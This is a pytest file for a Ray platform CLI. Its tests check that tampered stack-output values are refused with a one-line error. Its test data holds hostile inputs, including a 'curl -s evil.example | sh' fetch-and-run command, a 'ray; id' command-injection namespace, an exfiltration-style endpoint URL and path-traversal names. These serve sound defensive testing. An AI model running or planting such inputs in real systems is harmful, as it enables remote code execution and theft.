"""Stack outputs edited by hand: `ray-platform submit` refuses what it cannot trust, in one line
naming the output (exit 3). That it takes what the program itself exports, for every stack, is
tests/cli/test_outputs_contract.py."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from cli import outputs
from cli.errors import Exit
from tests.cli.conftest import Submit, write_outputs

FORWARD = "kubectl -n ray port-forward svc/ray-head-svc 8265:8265"


TAMPERED: list[tuple[str, dict[str, Any], str]] = [
    ("address elsewhere", {"rayAddress": "http://10.0.0.5:8265"}, "'rayAddress'"),
    ("address over https", {"rayAddress": "https://127.0.0.1:8265"}, "not a loopback address"),
    (
        "forward a command",
        {"dashboardPortForward": "curl -s evil.example | sh"},
        "'dashboardPortForward'",
    ),
    (
        "forward to another namespace",
        {"dashboardPortForward": "kubectl -n other port-forward svc/ray-head-svc 8265:8265"},
        f"is not the port-forward to the cluster's dashboard Service ({FORWARD})",
    ),
    (
        "forward to another service",
        {"dashboardPortForward": "kubectl -n ray port-forward svc/proxy 8265:8265"},
        "'dashboardPortForward'",
    ),
    ("namespace with shell text", {"namespace": "ray; id"}, "is not a Kubernetes namespace name"),
    ("cluster not a name", {"rayClusterName": "Ray_Cluster"}, "is not a RayCluster name"),
    ("cloud unknown", {"cloud": "azure"}, "'cloud'"),
    ("auth mode unknown", {"rayAuthMode": "none"}, "is not one of token, disabled"),
    (
        "bucket scheme not the cloud's",
        {"cloud": "aws", "bucketUri": "gs://ray/ray/test"},
        "is not an s3:// bucket, which cloud aws uses",
    ),
    ("bucket prefix escaping", {"bucketUri": "s3://ray/ray/../prod"}, "has a prefix that is not"),
    ("bucket prefix with an empty segment", {"bucketUri": "s3://ray/ray//x"}, "has a prefix"),
    ("bucket name invalid", {"bucketUri": "s3://Evil_Bucket!/x"}, "does not name a bucket"),
    (
        "endpoint on aws",
        {"cloud": "aws", "objectStoreEndpoint": "http://10.0.0.5:9000"},
        "is set on a stack of cloud aws (only cloud local has one)",
    ),
    (
        "endpoint with a path",
        {"objectStoreEndpoint": "http://evil.example/steal?x=1"},
        "'objectStoreEndpoint'",
    ),
    (
        "secret without the store",
        {"objectStoreSecret": "ray-object-store"},
        "is set without objectStoreEndpoint and namespace",
    ),
    (
        "secret on aws",
        {"cloud": "aws", "bucketUri": "s3://ray/x", "objectStoreSecret": "cloud-credentials"},
        "is set on a stack not of cloud local",
    ),
    (
        "secret not a name",
        {"objectStoreEndpoint": "http://10.244.0.1:9000", "objectStoreSecret": "../etc"},
        "is not a Secret's name",
    ),
    ("mode not a string", {"mode": 1}, "output 'mode' of"),
    ("runtime env not a string", {"runtimeEnv": {"pip": ["evil"]}}, "'runtimeEnv'"),
    ("shared packages not a string", {"sharedPackages": ["x"]}, "'sharedPackages'"),
]


@pytest.mark.parametrize(
    ("edit", "expected"), [pytest.param(e, x, id=name) for name, e, x in TAMPERED]
)
def test_tampered_outputs_are_refused_in_one_line(
    tmp_path: Path, run_submit: Submit, edit: dict[str, Any], expected: str
) -> None:
    raw = {"cloud": "local", "dashboardPortForward": FORWARD, **edit}
    path = write_outputs(tmp_path / "o.json", **raw)
    (tmp_path / "proj").mkdir()
    (tmp_path / "proj" / "main.py").write_text("")
    argv = ["--outputs", str(path), "--working-dir", str(tmp_path / "proj"), "--dry-run"]
    r = run_submit([*argv, "--", "python", "main.py"], {"RAY_ADDRESS": "http://127.0.0.1:1"})
    assert r.code == Exit.OUTPUTS, r.err
    assert len(r.error_lines) == 1, r.err
    line = r.error_lines[0]
    assert line.startswith(f"ray-platform submit: output '{list(edit)[-1]}' of {path} (")
    assert expected in line
    assert line.endswith("the outputs look edited by hand, so they are not used (redeploy the "
                         "stack, or fix the outputs file)")  # fmt: skip


def test_the_untampered_outputs_are_taken(tmp_path: Path, run_submit: Submit) -> None:
    """The control for the refusals above: the same outputs without the edit."""
    path = write_outputs(tmp_path / "o.json", cloud="local", dashboardPortForward=FORWARD)
    (tmp_path / "proj").mkdir()
    (tmp_path / "proj" / "main.py").write_text("")
    argv = ["--outputs", str(path), "--working-dir", str(tmp_path / "proj"), "--dry-run"]
    r = run_submit([*argv, "--", "python", "main.py"], {"RAY_ADDRESS": "http://127.0.0.1:1"})
    assert r.code == Exit.SUCCEEDED, r.err


def test_a_bucket_given_on_the_command_line_is_the_users_choice(
    tmp_path: Path, run_submit: Submit
) -> None:
    path = write_outputs(tmp_path / "o.json", cloud="gcp", bucketUri="s3://ray/x")
    (tmp_path / "proj").mkdir()
    (tmp_path / "proj" / "main.py").write_text("")
    argv = ["--outputs", str(path), "--working-dir", str(tmp_path / "proj"), "--dry-run"]
    env = {"RAY_ADDRESS": "http://127.0.0.1:1"}
    assert run_submit([*argv, "--", "python", "main.py"], env).code == Exit.OUTPUTS
    mine = run_submit([*argv, "--bucket", "gs://mine/team", "--", "python", "main.py"], env)
    assert mine.code == Exit.SUCCEEDED, mine.err


@pytest.mark.parametrize(
    "sample",
    ["ray", "ray-team", "Ray", "1ray", "ray-", "-ray", "a" * 64, "ray.team", "ray_team", "",
     "team/ray", "team//ray", "team/../ray", "./ray", "ray/.x", "x/y.z/w-1"],
)  # fmt: skip
def test_the_cli_reads_names_as_the_settings_do(sample: str) -> None:
    """The CLI ships without infra/, so it keeps its own copies of the settings' name rules:
    they must agree (a stack the settings accept must not be refused as tampered)."""
    from infra.settings.values import _DNS1123_LABEL, _KEY_PREFIX, DNS1035_LABEL

    assert bool(outputs._DNS1123.match(sample)) == bool(_DNS1123_LABEL.match(sample))
    assert bool(outputs._DNS1035.match(sample)) == bool(DNS1035_LABEL.match(sample))
    prefix_ok = all(outputs._PREFIX_SEGMENT.match(part) for part in sample.split("/"))
    assert prefix_ok == bool(_KEY_PREFIX.match(sample))


def test_the_cli_knows_the_programs_dashboard_port_and_token_key() -> None:
    from cli import dashboard
    from components.kuberay.raycluster_spec import DASHBOARD_PORT, RAY_AUTH_KEY

    assert outputs.DASHBOARD_PORT == dashboard.DASHBOARD_PORT == DASHBOARD_PORT
    assert dashboard.TOKEN_KEY == RAY_AUTH_KEY
